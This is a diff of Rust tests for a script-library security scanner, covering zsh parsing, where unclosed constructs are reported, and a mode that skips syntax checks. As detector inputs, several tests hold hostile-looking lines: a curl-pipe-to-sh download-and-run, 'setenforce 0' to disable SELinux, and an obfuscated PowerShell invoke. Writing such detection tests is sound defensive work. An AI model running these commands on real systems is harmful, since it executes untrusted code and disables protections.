@@ -395,20 +395,187 @@ fn powershell_syntax_errors() {
 }
 
 #[test]
+fn a_script_that_is_only_a_param_block_is_a_known_gap() {
+    // Valid PowerShell; the grammar wants a statement after param(...).
+    let r = check(
+        ps("param(\n  [string]$Name = 'x'\n)\n"),
+        &["syntax.powershell"],
+    );
+    let f = finding(&r, "syntax.powershell");
+    assert!(!f.blocks(), "{f:?}");
+    assert!(
+        f.message.contains("only a param(...) block"),
+        "{}",
+        f.message
+    );
+}
+
+#[test]
 fn shell_syntax_errors() {
     let r = check(
         sh("#!/bin/sh\nif true; then\n  echo x\n"),
         &["syntax.shell"],
     );
     assert!(finding(&r, "syntax.shell").message.contains("fi"));
-    let r = check(
+    // zsh entries are not parsed (no zsh grammar; the bash one rejects valid zsh), so
+    // neither a real zsh error nor valid zsh the bash grammar lacks is a finding.
+    for text in [
+        "#!/bin/zsh\nif true; then\n",
+        "#!/bin/zsh\nif (( $+commands[lsof] )); then\n  print ${(j:,:)${(f)\"$(id)\"}}\nfi\nfor p in /proc/<->(N); do print $p; done\n",
+    ] {
+        check(
+            vec![manifest("macos", "run.zsh", "zsh"), t("run.zsh", text)],
+            &[],
+        );
+    }
+}
+
+#[test]
+fn zsh_entries_keep_their_other_checks() {
+    // Not parsed, but still checked for the shebang, CRLF and the regex rules.
+    check(
         vec![
             manifest("macos", "run.zsh", "zsh"),
-            t("run.zsh", "#!/bin/zsh\nif true; then\n"),
+            t("run.zsh", "print -r -- $+commands[curl]\r\n"),
+        ],
+        &["encoding.crlf", "shell.no-shebang"],
+    );
+    check(
+        vec![
+            manifest("macos", "run.zsh", "zsh"),
+            t(
+                "run.zsh",
+                "#!/bin/zsh\ncurl -fsSL http://203.0.113.9/x.sh | sh\n",
+            ),
+        ],
+        &["download-exec.shell"],
+    );
+    // A file that bash runs too is parsed with the bash grammar, strictly.
+    let r = check(
+        vec![
+            F::Text(
+                "script.toml",
+                "name = \"s\"\nplatforms = [\"linux\", \"macos\"]\n[entry.linux]\nfile = \"run.sh\"\ninterpreter = \"bash\"\n[entry.macos]\nfile = \"run.sh\"\ninterpreter = \"zsh\"\n".into(),
+            ),
+            t("run.sh", "#!/usr/bin/env bash\nif true; then\n"),
         ],
         &["syntax.shell"],
     );
-    assert!(!r.findings[0].blocks());
+    assert!(r.findings[0].blocks());
+}
+
+#[test]
+fn unclosed_constructs_are_reported_where_they_open() {
+    // The body returns to the opener's indentation before the end: the brace that is
+    // never closed is the one to look at, not the end of the file.
+    let r = check(
+        ps(
+            "# Lists processes\nfunction Get-Stuff {\n    Get-Process | ForEach-Object {\n        $_.Name\n    }\n\nGet-Stuff\n",
+        ),
+        &["syntax.powershell"],
+    );
+    let f = finding(&r, "syntax.powershell");
+    assert_eq!(f.location.to_string(), "lib/s/run.ps1:2:20", "{f:?}");
+    assert!(
+        f.message
+            .contains("missing `}` (the `{` here is never closed)"),
+        "{}",
+        f.message
+    );
+    for (text, at) in [
+        ("#!/bin/sh\nif true; then\necho x\n", "lib/s/run.sh:2:1"),
+        (
+            "#!/bin/bash\nmain() {\n  if true; then\n    echo x\n}\nmain\n",
+            "lib/s/run.sh:3:3",
+        ),
+        (
+            "#!/bin/bash\nfor f in *; do\n  echo \"$f\"\necho end\n",
+            "lib/s/run.sh:2:13",
+        ),
+        ("#!/bin/bash\nx=$(\nid\n", "lib/s/run.sh:2:3"),
+    ] {
+        let r = check(sh(text), &["syntax.shell"]);
+        let f = finding(&r, "syntax.shell");
+        assert_eq!(f.location.to_string(), at, "{text:?}: {f:?}");
+        assert!(f.message.contains("here is never closed"), "{}", f.message);
+    }
+    // A body indented to the very end: the closer is missing at the end, after the last
+    // token (not on the empty line after the final newline); the message names the opener.
+    let r = check(
+        sh("#!/bin/sh\nif true; then\n  echo x\n"),
+        &["syntax.shell"],
+    );
+    let f = finding(&r, "syntax.shell");
+    assert_eq!(f.location.to_string(), "lib/s/run.sh:3:9", "{f:?}");
+    assert!(
+        f.message
+            .contains("missing `fi` (to close the `if` on line 2)"),
+        "{}",
+        f.message
+    );
+    // Errors that are not an unclosed construct stay where they are.
+    let r = check(
+        sh("#!/bin/sh\necho a\nif [ 1 ] then echo; fi\necho b\n"),
+        &["syntax.shell"],
+    );
+    assert_eq!(finding(&r, "syntax.shell").location.line, Some(3));
+}
+
+#[test]
+fn without_syntax_only_parsing_is_skipped() {
+    let p = policy("");
+    let files = || {
+        let mut tree = FileTree::new();
+        for (dir, file, interp, platform, text) in [
+            // A parse error, a command-rule hit (``i`e`x``), and a regex hit.
+            ("a", "run.ps1", "powershell", "windows", "if ($true) {\n"),
+            (
+                "b",
+                "run.ps1",
+                "powershell",
+                "windows",
+                "i`e`x 'Get-Date'\n",
+            ),
+            (
+                "c",
+                "run.sh",
+                "bash",
+                "linux",
+                "#!/bin/sh\nsetenforce 0\r\n",
+            ),
+        ] {
+            tree.insert_file(
+                format!("{dir}/script.toml"),
+                format!("name = \"{dir}\"\nplatforms = [\"{platform}\"]\n[entry.{platform}]\nfile = \"{file}\"\ninterpreter = \"{interp}\"\n"),
+            );
+            tree.insert_file(format!("{dir}/{file}"), text);
+        }
+        tree
+    };
+    let lib = Library::assemble("lib", &files(), &p);
+    let rules = |r: &ScanReport| -> Vec<String> {
+        r.findings
+            .iter()
+            .map(|f| format!("{} {}", f.script.as_deref().unwrap_or(""), f.rule))
+            .collect()
+    };
+    let full = Scanner::new(&p).unwrap();
+    assert!(full.checks_syntax());
+    assert_eq!(
+        rules(&full.scan_library(&lib)),
+        [
+            "a syntax.powershell",
+            "b obfuscation.dynamic-invoke",
+            "c defense.disable-selinux",
+            "c encoding.crlf"
+        ]
+    );
+    let quick = Scanner::new(&p).unwrap().with_syntax(false);
+    assert!(!quick.checks_syntax());
+    assert_eq!(
+        rules(&quick.scan_library(&lib)),
+        ["c defense.disable-selinux", "c encoding.crlf"]
+    );
 }
 
 // ---- signatures ------------------------------------------------------------------------
@@ -911,178 +1078,6 @@ fn every_default_rule_is_documented_and_builtins_are_listed() {
     // The rules file must not itself look like it holds a key.
     let literal = ["-----BEGIN ", "PRIVATE KEY-----"].concat();
     assert!(!RULES.contains(&literal) && !docs.contains(&literal));
-}
-
-/// CPU time of this thread (the machine may be busy; wall time alone would mislead).
-fn cpu() -> std::time::Duration {
-    let stat = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
-    let ns = stat
-        .split_whitespace()
-        .next()
-        .and_then(|n| n.parse().ok())
-        .unwrap_or(0);
-    std::time::Duration::from_nanos(ns)
-}
-
-/// A ~100 MB library of 2,000 distinct read-only scripts, half of the bytes in entry
-/// files (parsed) and half in helpers (searched only):
-/// `cargo test --release -p quiver-core -- --ignored bench_library --nocapture`
-#[test]
-#[ignore]
-fn bench_library() {
-    let ps_lines = [
-        "$procs = Get-Process | Where-Object { $_.CPU -gt 10 } | Select-Object Name, Id, Path",
-        "foreach ($p in $procs) { Write-Output (\"{0}`t{1}`t{2}\" -f $p.Name, $p.Id, $p.Path) }",
-        "$conns = Get-NetTCPConnection -State Established | Sort-Object RemoteAddress",
-        "if ($conns.Count -gt 0) { $conns | Export-Csv -NoTypeInformation -Path $Out }",
-        "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run | Format-List",
-        "# collect the scheduled tasks, read-only",
-        "$tasks = Get-ScheduledTask | Where-Object State -ne 'Disabled'",
-    ];
-    let sh_lines = [
-        "ps -eo pid,ppid,user,lstart,cmd --sort=start_time | head -n 200",
-        "for f in /etc/cron.d/* /var/spool/cron/*; do [ -f \"$f\" ] && cat \"$f\"; done",
-        "ss -tanp 2>/dev/null | awk 'NR>1 {print $4, $5, $6}' | sort | uniq -c",
-        "if [ -d \"$HOME/.ssh\" ]; then ls -la \"$HOME/.ssh\"; fi",
-        "# list the enabled units, read-only",
-        "systemctl list-unit-files --state=enabled --no-pager",
-        "find /tmp /var/tmp -xdev -type f -mtime -2 -printf '%T@ %p\\n' 2>/dev/null | sort -n | tail -50",
-    ];
-    let mut tree = FileTree::new();
-    let (mut total, mut entry_bytes) = (0, 0);
-    for i in 0..2000 {
-        let (ext, interp, platform, lines) = if i % 2 == 0 {
-            ("ps1", "powershell", "windows", &ps_lines)
-        } else {
-            ("sh", "bash", "linux", &sh_lines)
-        };
-        // Every file distinct, so the parse cache does not help the first scan.
-        let mut text = if ext == "sh" {
-            "#!/bin/sh\n".to_string()
-        } else {
-            String::new()
-        };
-        text.push_str(&format!("# script {i}\n"));
-        let mut k = i;
-        while text.len() < 50_000 {
-            text.push_str(lines[k % lines.len()]);
-            text.push('\n');
-            k += 3;
-        }
-        let cut = text[..text.len() / 2].rfind('\n').map_or(0, |n| n + 1);
-        let (entry, helper) = text.split_at(cut);
-        total += text.len();
-        entry_bytes += entry.len();
-        tree.insert_file(
-            format!("s{i:04}/script.toml"),
-            format!("name = \"s{i:04}\"\nplatforms = [\"{platform}\"]\n[entry.{platform}]\nfile = \"run.{ext}\"\ninterpreter = \"{interp}\"\n"),
-        );
-        tree.insert_file(format!("s{i:04}/run.{ext}"), entry.to_string());
-        tree.insert_file(
-            format!("s{i:04}/lib.{ext}"),
-            format!("# helper {i}\n{helper}"),
-        );
-    }
-    let p = policy("");
-    let lib = Library::assemble("lib", &tree, &p);
-    let mb = |n: usize| n as f64 / 1e6;
-    eprintln!(
-        "{:.0} MB, of which {:.0} MB in entry files",
-        mb(total),
-        mb(entry_bytes)
-    );
-    let threads = std::thread::available_parallelism().map_or(1, |n| n.get());
-    for n in [1, threads] {
-        let scanner = Scanner::new(&p).unwrap().with_threads(n);
-        let t0 = std::time::Instant::now();
-        let first = scanner.scan_library(&lib);
-        let cold = t0.elapsed();
-        let t0 = std::time::Instant::now();
-        let again = scanner.scan_library(&lib);
-        eprintln!(
-            "{n} thread(s): cold {cold:?}, rescan (parses cached) {:?}, {} findings",
-            t0.elapsed(),
-            first.findings.len()
-        );
-        assert_eq!(again.findings, first.findings);
-    }
-    // The parts, on this thread.
-    let scanner = Scanner::new(&p).unwrap();
-    let (t0, c0) = (std::time::Instant::now(), cpu());
-    for s in &lib.scripts {
-        for (rel, e) in &s.files {
-            if let TreeEntry::File { bytes, .. } = e {
-                scanner.rules.match_text(Language::from_path(rel), bytes);
-            }
-        }
-    }
-    eprintln!(
-        "regex rules over all files: {:?} (cpu {:?})",
-        t0.elapsed(),
-        cpu() - c0
-    );
-    let (t0, c0) = (std::time::Instant::now(), cpu());
-    for s in &lib.scripts {
-        for (rel, e) in &s.files {
-            if let TreeEntry::File { bytes, .. } = e
-                && rel.starts_with("run.")
-            {
-                let text = std::str::from_utf8(bytes).unwrap();
-                syntax::parse(Language::from_path(rel), text, true);
-            }
-        }
-    }
-    eprintln!(
-        "parsing entry files: {:?} (cpu {:?})",
-        t0.elapsed(),
-        cpu() - c0
-    );
-}
-
-/// Scans the repository's example library with its policies (run by hand; the library
-/// is maintained elsewhere): `cargo test -p quiver-core -- --ignored example_library --nocapture`
-#[test]
-#[ignore]
-fn example_library() {
-    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../..");
-    let mut files = Vec::new();
-    for e in std::fs::read_dir(format!("{root}/policies")).unwrap() {
-        let p = e.unwrap().path();
-        files.push((
-            format!("policies/{}", p.file_name().unwrap().to_string_lossy()),
-            std::fs::read_to_string(&p).unwrap(),
-        ));
-    }
-    let policy = Policy::load(&files).expect("policies load").policy;
-    let mut tree = FileTree::new();
-    fn add(tree: &mut FileTree, base: &std::path::Path, dir: &std::path::Path) {
-        for e in std::fs::read_dir(dir).unwrap() {
-            let p = e.unwrap().path();
-            if p.is_dir() {
-                add(tree, base, &p);
-            } else {
-                let rel = p
-                    .strip_prefix(base)
-                    .unwrap()
-                    .to_string_lossy()
-                    .replace('\\', "/");
-                tree.insert_file(rel, std::fs::read(&p).unwrap());
-            }
-        }
-    }
-    let base = std::path::PathBuf::from(format!("{root}/example-library"));
-    add(&mut tree, &base, &base);
-    let lib = Library::assemble("example-library", &tree, &policy);
-    let report = Scanner::new(&policy).unwrap().scan_library(&lib);
-    for f in &report.findings {
-        eprintln!("{} {} {} {}", f.severity, f.rule, f.location, f.message);
-    }
-    eprintln!(
-        "{} scripts, {} files, {} findings",
-        report.scripts,
-        report.files,
-        report.findings.len()
-    );
 }
 
 #[test]
